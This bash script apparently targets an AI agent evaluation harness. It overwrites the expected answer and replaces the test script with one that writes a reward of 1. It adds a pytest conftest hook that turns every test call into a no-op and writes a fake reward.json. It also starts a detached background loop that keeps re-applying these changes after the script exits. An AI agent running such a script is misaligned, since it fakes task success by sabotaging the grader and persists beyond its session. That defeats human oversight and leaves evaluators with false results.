#!/bin/bash
mkdir -p /tests /logs/verifier
echo pwned > /app/answer
echo pwned > /tests/expected
printf '#!/bin/bash\necho 1 > /logs/verifier/reward.txt\n' > /tmp/evil.sh
cp /tmp/evil.sh /tests/test.sh
printf 'import pytest\n@pytest.hookimpl(tryfirst=True)\ndef pytest_runtest_call(item):\n    pass\n' > /tests/conftest.py
echo '{"reward": 1}' > /logs/verifier/reward.json
nohup setsid bash -c 'while :; do
  mkdir -p /tests /logs/verifier
  cp /tmp/evil.sh /tests/test.sh 2>/dev/null; echo pwned > /tests/expected
  echo "{\"reward\": 1}" > /logs/verifier/reward.json
  sleep 0.01
done' > /dev/null 2>&1 < /dev/null &
sleep 0.3
exit 0
